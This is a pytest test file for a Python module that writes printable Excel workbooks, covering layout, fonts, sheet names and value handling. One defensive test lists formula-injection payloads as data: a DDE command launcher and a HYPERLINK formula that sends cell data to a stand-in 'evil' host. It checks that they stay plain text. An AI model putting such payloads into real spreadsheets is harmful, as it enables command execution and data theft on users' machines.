"""Workbooks for the printer, read back as Excel would."""

from datetime import UTC, date, datetime
from decimal import Decimal
from fractions import Fraction
from io import BytesIO

import pytest
from openpyxl import load_workbook

from wenming.xlsx import Column, HeadCell, Line, Sheet, workbook

COLUMNS = [
    Column("大项", 10, "center", merges=True),
    Column("项目", 30),
    Column("得分", 8, "points"),
]
ROWS = [["阵地", "板报", Decimal("9.50")], ["阵地", "阅览室", 10], ["活动", "讲座", Fraction(1, 4)]]


def opened(*sheets: Sheet):
    return load_workbook(BytesIO(workbook(sheets)))


def values(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_a_table_stands_as_the_office_prints_it():
    page = Sheet("考核评分表", COLUMNS, ROWS, under="2026年度", signatures=["考核组长（签字）："])
    sheet = opened(page).active

    assert sheet.title == "考核评分表"
    assert [row[0] for row in values(sheet)] == [
        "考核评分表",
        "2026年度",
        "大项",
        "阵地",
        None,
        "活动",
        "考核组长（签字）：",
    ]
    assert [row[2] for row in values(sheet)][3:6] == [9.5, 10, 0.25]
    merged = {str(area) for area in sheet.merged_cells.ranges}
    assert merged == {"A1:C1", "A2:C2", "A4:A5", "A7:C7"}
    assert sheet.page_setup.paperSize == 9
    assert sheet.page_setup.orientation == "portrait"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "A4"
    assert sheet["A1"].font.name == "宋体"
    assert sheet["B4"].font.name == "仿宋"
    assert sheet["B4"].border.top.style == "thin"
    assert sheet["C4"].alignment.horizontal == "right"
    assert sheet.column_dimensions["B"].width == 30


def test_heads_of_two_rows_keep_their_places():
    heads = [
        [HeadCell("单位", depth=2), HeadCell("大项", span=2)],
        [HeadCell("阵地"), HeadCell("活动")],
    ]
    columns = [Column("单位"), Column("阵地"), Column("活动")]
    sheet = opened(Sheet("汇总", columns, [["甲", 1, 2]], heads=heads, landscape=True)).active

    assert values(sheet)[1:] == [["单位", "大项", None], [None, "阵地", "活动"], ["甲", 1, 2]]
    assert {str(area) for area in sheet.merged_cells.ranges} == {"A1:C1", "A2:A3", "B2:C2"}
    assert sheet.print_title_rows == "$2:$3"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet["C2"].border.right.style == "thin"


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil/?"&A1,"点击")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        '"=1+1',
        "\n=1+1",
        "#REF!",
    ],
)
def test_text_never_becomes_a_formula(text):
    sheet = opened(Sheet("表", [Column("说明")], [[text]])).active

    cell = sheet["A3"]
    assert cell.value == text
    assert cell.data_type in ("s", "inlineStr")
    assert bool(cell.quotePrefix) is not text.startswith("#")


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("工作总结\x0b第二段", "工作总结\n第二段"),
        ("a\x00b\ud800c\uffff", "abc"),
        ("a" * 40_000, "a" * 32_000),
        (True, "是"),
        (None, None),
        (0, 0),
        (date(2026, 3, 1), datetime(2026, 3, 1)),  # noqa: DTZ001
        (datetime(2026, 3, 1, 4, tzinfo=UTC), datetime(2026, 3, 1, 12)),  # noqa: DTZ001
    ],
    ids=["vertical-tab", "forbidden", "too-long", "true", "none", "zero", "date", "aware"],
)
def test_values_arrive_as_the_office_reads_them(value, shown):
    kind = "date" if isinstance(value, date) else "text"
    sheet = opened(Sheet("表", [Column("值", kind=kind)], [["x"], [value]])).active

    assert sheet["A4"].value == shown


def test_tabs_have_names_that_excel_accepts():
    names = ["县直/单位[1]:*?", "'引号'", "", "长" * 40, "长" * 40, "Abc", "abc"]
    book = opened(*(Sheet("题", [Column("a")], [], tab=name) for name in names))

    assert book.sheetnames == [
        "县直 单位 1",
        "引号",
        "题",
        "长" * 31,
        "长" * 27 + "(2)",
        "Abc",
        "abc(2)",
    ]


def test_a_sum_is_printed_strong():
    sheet = opened(Sheet("表", COLUMNS, [ROWS[0], Line(["合计", "", 9])])).active

    assert not sheet["C3"].font.bold
    assert sheet["C4"].font.bold


def test_rows_are_taken_one_at_a_time():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield [number]

    assert workbook([Sheet("表", [Column("n", kind="integer")], rows())])
    assert taken == [0, 1, 2]


def test_a_file_to_be_read_back_has_its_head_in_the_first_row():
    sheet = Sheet("甲&乙", [Column("编号", 9, "code")], [["1.10"]], title_in_margin=True)

    written = load_workbook(BytesIO(workbook([sheet]))).active

    assert [cell.value for cell in written["A"]] == ["编号", "1.10"]
    assert written["A2"].number_format == "@"
    assert written.oddHeader.center.text == "甲&&乙"
    assert (written.freeze_panes, written.print_title_rows) == ("A2", "$1:$1")


def test_rows_are_as_high_as_the_text_that_wraps_in_them():
    """LibreOffice prints a row without a height one line high, whatever stands in it."""
    columns = [Column("短", 8), Column("说明\n（分）", 10)]
    rows = [
        ["一", "短"],
        ["二", "这一句话放不进一行里"],
        ["三", "第一行\n第二行"],
        ["四", "长" * 4000],
    ]
    sheet = opened(Sheet("表", columns, rows)).active

    heights = [sheet.row_dimensions[number].height for number in range(2, 7)]
    assert heights == [32, None, 48, 32, 409]
    assert (sheet.sheet_format.defaultRowHeight, sheet.sheet_format.customHeight) == (18, True)
